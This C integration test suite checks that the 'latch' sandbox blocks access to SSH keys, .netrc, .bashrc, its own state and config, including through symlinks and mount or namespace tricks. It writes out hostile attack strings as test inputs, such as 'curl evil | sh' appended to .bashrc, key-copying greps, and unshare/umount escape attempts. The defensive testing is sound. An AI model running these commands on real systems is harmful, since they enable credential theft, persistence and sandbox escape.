/* Filesystem grants as a sandboxed command sees them: the workdir, paths
 * outside every grant, read-only grants, symlinks out of the workdir,
 * --allow $HOME with its sensitive paths, and latch's own state directory. */
#include <string.h>

#include "../lib/latchtest.h"

TestSuite(fs, .init = lt_setup, .fini = lt_teardown, .timeout = 30);

#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----\nlatch-itest-KEYMATERIAL-7f3a\n-----END OPENSSH PRIVATE KEY-----\n"
#define KEY_MARK "KEYMATERIAL"

static struct lt_result sh(const char *script)
{
	return LT_RUN("run", "--", "sh", lt_script(script));
}

static struct lt_result sh_home(const char *script)
{
	return LT_RUN("run", "--allow", lt.home, "--", "sh", lt_script(script));
}

/* ---- 1. the workdir grant; a file outside every grant ---- */

Test(fs, workdir_is_readable_and_writable)
{
	char *pre = lt_path(lt.work, "pre.txt");
	char *made = lt_path(lt.work, "sub/made.txt");
	struct lt_result r;

	lt_write(pre, "pre-existing content\n");
	r = sh(lt_fmt("cat pre.txt && mkdir sub && echo written-inside > '%s' && "
		      "cat '%s' && echo appended >> pre.txt && rm -f pre.txt.gone",
		      made, made));
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "pre-existing content", r);
	LT_CONTAINS(r.out, "written-inside", r);
	LT_FILE_IS(made, "written-inside\n");
	LT_FILE_IS(pre, "pre-existing content\nappended\n");

	/* removal and rename inside the workdir work too */
	r = sh("mv pre.txt renamed.txt && rm sub/made.txt");
	LT_EXIT(r, 0);
	cr_assert(!lt_exists(pre) && !lt_exists(made));
	LT_FILE_IS(lt_path(lt.work, "renamed.txt"),
		   "pre-existing content\nappended\n");
}

Test(fs, file_outside_every_grant_is_unreadable)
{
	char *victim = lt_path(lt.home, "notes.txt");
	struct lt_result r;

	lt_write(victim, "outside-secret-notes\n");
	r = LT_RUN("run", "--", "cat", victim);
	LT_FAILS(r);
	LT_CONTAINS(r.err, "Permission denied", r);
	LT_LACKS(r.out, "outside-secret-notes", r);

	/* the exit code of the command passes through */
	r = sh(lt_fmt("cat '%s'", victim));
	LT_EXIT(r, 1);
	LT_LACKS(r.out, "outside-secret-notes", r);

	/* nor can the directory be listed */
	r = LT_RUN("run", "--", "ls", lt.home);
	LT_FAILS(r);
	LT_CONTAINS(r.err, "Permission denied", r);
	LT_LACKS(r.out, "notes.txt", r);
}

Test(fs, file_outside_every_grant_is_unwritable)
{
	char *victim = lt_path(lt.home, "notes.txt");
	char *fresh = lt_path(lt.home, "fresh.txt");
	const char *scripts[] = {
		"echo overwritten > '%s'",
		"echo appended >> '%s'",
		": > '%s'",
		"truncate -s 0 '%s'",
		"rm -f '%s'",
		"mv '%s' /tmp/latch-itest-moved",
		"ln -sf /etc/passwd '%s'",
	};

	lt_write(victim, "original content\n");
	for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
		struct lt_result r = sh(lt_fmt(scripts[i], victim));

		LT_FAILS(r);
		/* refused by Landlock ("Permission denied") or, for rm, by the
		 * exec rules first (the shim on PATH: "latch: blocked") */
		cr_assert(strstr(r.err, "denied") || strstr(r.err, "latch: blocked"),
			  "no refusal in\n%s", lt_show(&r));
		LT_FILE_IS(victim, "original content\n");
	}
	{
		struct lt_result r = sh(lt_fmt("echo new > '%s'", fresh));

		LT_FAILS(r);
		LT_CONTAINS(r.err, "Permission denied", r);
		cr_assert(!lt_exists(fresh), "%s was created", fresh);
	}
}

/* ---- 2. a read-only grant ---- */

Test(fs, read_grant_allows_reads_refuses_writes_and_truncation)
{
	char *dir = lt_path(lt.root, "ro");
	char *file = lt_path(dir, "data.txt");
	const char *scripts[] = {
		"echo overwritten > '%1$s'",
		"echo appended >> '%1$s'",
		": > '%1$s'",
		"truncate -s 0 '%1$s'",
		"truncate -s 1M '%1$s'",
		"rm -f '%1$s'",
		"mv '%1$s' '%1$s.moved'",
		"cp /etc/hostname '%1$s'",
		"touch '%1$s.new'",
		"mkdir '%1$s.dir'",
	};
	struct lt_result r;

	lt_write(file, "read-only content\n");
	r = LT_RUN("run", "--read", dir, "--", "cat", file);
	LT_EXIT(r, 0);
	cr_assert_str_eq(r.out, "read-only content\n", "%s", lt_show(&r));
	r = LT_RUN("run", "--read", dir, "--", "ls", dir);
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "data.txt", r);

	for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
		r = LT_RUN("run", "--read", dir, "--", "sh", lt_script(lt_fmt(scripts[i], file)));
		LT_FAILS(r);
		LT_FILE_IS(file, "read-only content\n");
	}
	cr_assert(!lt_exists(lt_fmt("%s.new", file)));
	cr_assert(!lt_exists(lt_fmt("%s.dir", file)));
	cr_assert(!lt_exists(lt_fmt("%s.moved", file)));
}

/* ---- 3. a symlink out of the workdir ---- */

Test(fs, symlink_in_workdir_to_ssh_key_is_not_followed)
{
	char *key = lt_path(lt.home, ".ssh/id_rsa");
	char *link = lt_path(lt.work, "innocent.txt");
	char *dirlink = lt_path(lt.work, "keys");
	struct lt_result r;

	lt_write_mode(key, KEY, 0600);
	lt_symlink(key, link);
	lt_symlink(lt_path(lt.home, ".ssh"), dirlink);

	r = LT_RUN("run", "--", "cat", "innocent.txt");
	LT_FAILS(r);
	LT_CONTAINS(r.err, "Permission denied", r);
	LT_LACKS(r.out, KEY_MARK, r);

	r = LT_RUN("run", "--", "cat", "keys/id_rsa");
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);

	/* copying through the link into the workdir gets nothing either */
	r = sh("cp innocent.txt stolen.txt; cat stolen.txt");
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	{
		const char *stolen = lt_read(lt_path(lt.work, "stolen.txt"));

		cr_assert(stolen == NULL || strstr(stolen, KEY_MARK) == NULL,
			  "the key was copied into the workdir");
	}

	/* the same with $HOME granted: .ssh is still denied */
	r = LT_RUN("run", "--allow", lt.home, "--", "cat", "innocent.txt");
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);

	/* latch why agrees */
	r = LT_RUN("why", "--path", link, "--op", "read");
	LT_EXIT(r, 1);
}

/* ---- 4. --allow $HOME ---- */

Test(fs, allow_home_keeps_ssh_denied)
{
	char *key = lt_path(lt.home, ".ssh/id_rsa");
	char *notes = lt_path(lt.home, "notes");
	char *created = lt_path(lt.home, "new");
	char *ssh_new = lt_path(lt.home, ".ssh/new");
	struct lt_result r;

	lt_write_mode(key, KEY, 0600);
	lt_write(notes, "home-notes-content\n");

	r = sh_home(lt_fmt("cat '%s'", notes));
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "home-notes-content", r);

	/* protected paths are missing from this home (.bash_profile, .aws …),
	 * so nothing new may appear directly in it; existing subdirectories
	 * stay fully writable */
	r = sh_home(lt_fmt("echo created-in-home > '%s'", created));
	LT_FAILS(r);
	cr_assert(!lt_exists(created), "a new entry appeared directly in $HOME");
	LT_CONTAINS(r.err, "protected path(s) do not exist yet", r);
	lt_write(lt_path(lt.home, "src/keep"), "x\n");
	r = sh_home(lt_fmt("echo created-in-sub > '%s/src/new'", lt.home));
	LT_EXIT(r, 0);
	LT_FILE_IS(lt_path(lt.home, "src/new"), "created-in-sub\n");
	r = sh_home(lt_fmt("mkdir '%1$s/.ssh2'; echo x > '%1$s/.bash_profile'; mkdir -p '%1$s/.aws'",
			   lt.home));
	LT_FAILS(r);
	cr_assert(!lt_exists(lt_path(lt.home, ".bash_profile")),
		  "a login script was planted");
	cr_assert(!lt_exists(lt_path(lt.home, ".aws")), "~/.aws was created");

	r = sh_home(lt_fmt("cat '%s'", key));
	LT_FAILS(r);
	LT_CONTAINS(r.err, "Permission denied", r);
	LT_LACKS(r.out, KEY_MARK, r);

	r = sh_home(lt_fmt("ls -a '%s/.ssh'", lt.home));
	LT_FAILS(r);
	LT_CONTAINS(r.err, "Permission denied", r);
	LT_LACKS(r.out, "id_rsa", r);

	r = sh_home(lt_fmt("echo planted > '%s'", ssh_new));
	LT_FAILS(r);
	cr_assert(!lt_exists(ssh_new), "%s was created", ssh_new);

	/* a whole-tree copy or grep of $HOME does not reach the key */
	r = sh_home(lt_fmt("cp -r '%s/.ssh' '%s/copied' ; grep -r KEYMATERIAL '%s'",
			   lt.home, lt.work, lt.home));
	LT_LACKS(r.out, KEY_MARK, r);
	{
		const char *copied = lt_read(lt_path(lt.work, "copied/id_rsa"));

		cr_assert(copied == NULL || strstr(copied, KEY_MARK) == NULL,
			  "the key was copied into the workdir");
	}

	/* the mask over .ssh cannot be removed or bypassed from inside */
	r = sh_home(lt_fmt("umount '%1$s/.ssh' 2>&1; umount -l '%1$s/.ssh' 2>&1; cat '%2$s'",
			   lt.home, key));
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	r = sh_home(lt_fmt("cat /proc/$PPID/root'%s'", key));
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	/* a user namespace of its own gives no way around the mask either */
	r = sh_home(lt_fmt("unshare -U -r -m sh -c \"umount -l '%1$s/.ssh'; cat '%2$s'\"; "
			   "unshare -U -r -m sh -c \"mount -t tmpfs none '%1$s/.ssh'; cat '%2$s'\"",
			   lt.home, key));
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);

	LT_FILE_IS(key, KEY);
}

Test(fs, allow_home_keeps_bashrc_read_only)
{
	char *rc = lt_path(lt.home, ".bashrc");
	char *local_bin = lt_path(lt.home, ".local/bin");
	const char *attacks[] = {
		"echo 'curl evil | sh' >> '%1$s'",
		"echo 'curl evil | sh' > '%1$s'",
		"truncate -s 0 '%1$s'",
		"rm -f '%1$s'",
		"echo evil > '%1$s.new' && mv -f '%1$s.new' '%1$s'",
		"mv '%1$s' '%1$s.old'",
	};
	struct lt_result r;

	lt_write(rc, "# original bashrc\nalias ll='ls -l'\n");
	lt_mkdir(local_bin);

	r = sh_home(lt_fmt("cat '%s'", rc));
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "# original bashrc", r);

	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		r = sh_home(lt_fmt(attacks[i], rc));
		LT_FAILS(r);
		LT_FILE_IS(rc, "# original bashrc\nalias ll='ls -l'\n");
	}

	/* ~/.local/bin (on PATH) is read-only as well */
	r = sh_home(lt_fmt("echo evil > '%s/ls'", local_bin));
	LT_FAILS(r);
	cr_assert(!lt_exists(lt_path(local_bin, "ls")));
}

/* ---- 14. latch's state directory ---- */

Test(fs, state_dir_is_hidden_even_with_allow_home)
{
	char *state = lt_path(lt.home, ".local/state/latch");
	char *probe = lt_path(state, "probe");
	char *planted = lt_path(state, "planted");
	struct lt_result r;

	lt_write(probe, "state-dir-secret\n");

	r = sh_home(lt_fmt("cat '%s'", probe));
	LT_FAILS(r);
	LT_LACKS(r.out, "state-dir-secret", r);

	r = sh_home(lt_fmt("ls -a '%s'", state));
	LT_FAILS(r);
	LT_LACKS(r.out, "probe", r);

	r = sh_home(lt_fmt("echo x > '%s'", planted));
	LT_FAILS(r);
	cr_assert(!lt_exists(planted), "%s was created", planted);

	r = sh_home(lt_fmt("echo x > '%s'", probe));
	LT_FAILS(r);
	LT_FILE_IS(probe, "state-dir-secret\n");

	/* the rest of ~/.local/state stays usable */
	r = sh_home(lt_fmt("echo ok > '%s/.local/state/other'", lt.home));
	LT_EXIT(r, 0);
}

Test(fs, state_dir_cannot_be_granted_explicitly)
{
	char *state = lt_path(lt.home, ".local/state/latch");
	char *probe = lt_path(state, "probe");
	struct lt_result r;

	lt_write(probe, "state-dir-secret\n");
	r = LT_RUN("run", "--allow", state, "--allow", lt.home, "--", "sh",
		   "-c", lt_fmt("cat '%s'; echo x > '%s'", probe, probe));
	LT_FAILS(r);
	LT_LACKS(r.out, "state-dir-secret", r);
	LT_CONTAINS(r.err, "warning", r);
	LT_FILE_IS(probe, "state-dir-secret\n");

	/* also without $HOME: the grant is dropped, nothing is reachable */
	r = LT_RUN("run", "--read", state, "--", "cat", probe);
	LT_FAILS(r);
	LT_LACKS(r.out, "state-dir-secret", r);
}

/* ---- more paths a user has ---- */

Test(fs, symlinked_ssh_dir_is_denied_at_its_target)
{
	char *real = lt_path(lt.home, "dotfiles/ssh");
	struct lt_result r;

	lt_write_mode(lt_path(real, "id_rsa"), KEY, 0600);
	lt_symlink("dotfiles/ssh", lt_path(lt.home, ".ssh"));

	r = sh_home(lt_fmt("cat '%s/.ssh/id_rsa'", lt.home));
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	r = sh_home(lt_fmt("cat '%s/id_rsa'", real));
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	/* the rest of dotfiles stays granted */
	r = sh_home(lt_fmt("echo ok > '%s/dotfiles/other' && cat '%s/dotfiles/other'",
			   lt.home, lt.home));
	LT_EXIT(r, 0);
}

Test(fs, running_in_home_keeps_credentials_denied)
{
	/* `cd ~ && latch run ...`: the workdir is $HOME itself */
	struct lt_opts o = { .cwd = lt.home };
	struct lt_result r;

	lt_write_mode(lt_path(lt.home, ".ssh/id_rsa"), KEY, 0600);
	lt_write_mode(lt_path(lt.home, ".netrc"), "machine x password netrc-secret\n", 0600);
	lt_write(lt_path(lt.home, ".bashrc"), "# rc\n");
	lt_write(lt_path(lt.home, "project.txt"), "work\n");

	r = LT_RUN_O(&o, "run", "--", "sh", "-c", "cat project.txt && echo more >> project.txt");
	LT_EXIT(r, 0);
	LT_FILE_IS(lt_path(lt.home, "project.txt"), "work\nmore\n");
	r = LT_RUN_O(&o, "run", "--", "cat", ".ssh/id_rsa");
	LT_FAILS(r);
	LT_LACKS(r.out, KEY_MARK, r);
	r = LT_RUN_O(&o, "run", "--", "cat", ".netrc");
	LT_FAILS(r);
	LT_LACKS(r.out, "netrc-secret", r);
	r = LT_RUN_O(&o, "run", "--", "sh", "-c", "echo evil >> .bashrc");
	LT_FAILS(r);
	LT_FILE_IS(lt_path(lt.home, ".bashrc"), "# rc\n");
}

Test(fs, deny_flag_hides_a_path_inside_the_workdir)
{
	char *secret = lt_path(lt.work, "secret.txt");
	char *dir = lt_path(lt.work, "private");
	struct lt_result r;

	lt_write(secret, "workdir-secret\n");
	lt_write(lt_path(dir, "inner.txt"), "private-inner\n");

	r = LT_RUN("run", "--deny", "secret.txt", "--deny", dir, "--", "sh",
		   "-c", "cat secret.txt; cat private/inner.txt; ls private; "
			 "echo x > secret.txt; echo y > private/new; echo ok > other.txt");
	LT_LACKS(r.out, "workdir-secret", r);
	LT_LACKS(r.out, "private-inner", r);
	LT_LACKS(r.out, "inner.txt", r);
	LT_FILE_IS(secret, "workdir-secret\n");
	cr_assert(!lt_exists(lt_path(dir, "new")));
	/* the rest of the workdir is unaffected */
	LT_FILE_IS(lt_path(lt.work, "other.txt"), "ok\n");
}

Test(fs, deny_write_flag_keeps_a_file_read_only_inside_the_workdir)
{
	char *lib = lt_path(lt.work, "node_modules/liblatch.so.0");
	struct lt_result r;

	lt_write(lib, "the harness's library\n");
	r = LT_RUN("run", "--deny-write", lib, "--", "sh", lt_script(
		   "cat node_modules/liblatch.so.0\n"
		   "echo planted > node_modules/liblatch.so.0\n"
		   "rm -f node_modules/liblatch.so.0\n"
		   "echo ok > other.txt\n"));
	LT_CONTAINS(r.out, "the harness's library", r);
	LT_FILE_IS(lib, "the harness's library\n");
	LT_FILE_IS(lt_path(lt.work, "other.txt"), "ok\n");
}

Test(fs, latch_config_is_read_only_inside)
{
	char *cfg = lt_path(lt.home, ".config/latch/profiles/mine.yaml");
	char *other = lt_path(lt.home, ".config/latch/profiles/wider.yaml");
	struct lt_result r;

	lt_write(cfg, "extends: default\ndescription: my own\n");
	/* found by name, listed as the user's */
	r = LT_RUN("profile", "list");
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "mine", r);
	r = LT_RUN("run", "-p", "mine", "--", "sh", lt_script("echo $LATCH_PROFILE"));
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "mine", r);

	/* a sandbox with $HOME granted cannot widen the next session */
	r = sh_home(lt_fmt("cat '%s'", cfg));
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "my own", r);
	r = sh_home(lt_fmt("echo 'filesystem: {allow: [/]}' >> '%s'", cfg));
	LT_FAILS(r);
	LT_FILE_IS(cfg, "extends: default\ndescription: my own\n");
	r = sh_home(lt_fmt("echo 'extends: default' > '%s'", other));
	LT_FAILS(r);
	cr_assert(!lt_exists(other), "a new profile was planted");
}

Test(fs, symlinked_home_is_protected_at_its_target)
{
	/* e.g. Fedora Silverblue: /home -> /var/home */
	char *real = lt_path(lt.root, "realhome");
	char *link = lt_path(lt.root, "homelink");
	const char *env[] = { NULL, NULL };
	struct lt_opts o = { .env = env };
	struct lt_result r;

	lt_write_mode(lt_path(real, ".ssh/id_rsa"), KEY, 0600);
	lt_write(lt_path(real, ".bashrc"), "# rc\n");
	lt_symlink("realhome", link);
	env[0] = lt_fmt("HOME=%s", link);

	r = LT_RUN_O(&o, "run", "--allow", link, "--", "sh", lt_script(lt_fmt("cat '%1$s/.ssh/id_rsa'; cat '%2$s/.ssh/id_rsa'; "
			    "echo evil >> '%1$s/.bashrc'; echo ok > '%1$s/new'",
			    link, real)));
	LT_LACKS(r.out, KEY_MARK, r);
	LT_FILE_IS(lt_path(real, ".bashrc"), "# rc\n");
	/* missing protected paths: no new entry directly in the real home */
	cr_assert(!lt_exists(lt_path(real, "new")), "created through the link");
}

Test(fs, latch_config_cannot_be_planted_when_missing)
{
	/* No ~/.config/latch yet (the usual case): a sandbox with $HOME
	 * granted must not be able to create a user profile that shadows a
	 * shipped one and widens the next session (latch_self). */
	char *planted = lt_path(lt.home, ".config/latch/profiles/default.yaml");
	struct lt_result r;

	cr_assert(!lt_exists(lt_path(lt.home, ".config/latch")));
	r = sh_home(lt_fmt("mkdir -p '%s/.config/latch/profiles' && "
			   "printf 'filesystem:\\n  allow: [/]\\nworkdir: readwrite\\n' > '%s'",
			   lt.home, planted));
	cr_assert(!lt_exists(planted),
		  "the sandbox planted %s\n%s", planted, lt_show(&r));
	r = LT_RUN("profile", "list");
	LT_EXIT(r, 0);
	cr_assert(lt_count_lines(r.out, "user") == 0,
		  "a user profile appeared\n%s", lt_show(&r));
}

Test(fs, a_file_level_grant_opens_that_file_only)
{
	char *dir = lt_path(lt.home, "data");
	char *granted = lt_path(dir, "granted.txt");
	char *sibling = lt_path(dir, "sibling.txt");
	struct lt_result r;

	lt_write(granted, "granted-content\n");
	lt_write(sibling, "sibling-content\n");
	r = LT_RUN("run", "--read", granted, "--", "cat", granted);
	LT_EXIT(r, 0);
	LT_CONTAINS(r.out, "granted-content", r);
	r = LT_RUN("run", "--read", granted, "--", "cat", sibling);
	LT_FAILS(r);
	LT_LACKS(r.out, "sibling-content", r);
	/* read-only: the file cannot be written through its own grant */
	r = LT_RUN("run", "--read", granted, "--", "sh", lt_script(lt_fmt("echo x >> '%s'", granted)));
	LT_FAILS(r);
	LT_FILE_IS(granted, "granted-content\n");
	/* --allow on a file: writable, and still nothing else in its dir */
	r = LT_RUN("run", "--allow", granted, "--", "sh", lt_script(lt_fmt("echo more >> '%s' && ! ls '%s'", granted, dir)));
	LT_EXIT(r, 0);
	LT_FILE_IS(granted, "granted-content\nmore\n");
}
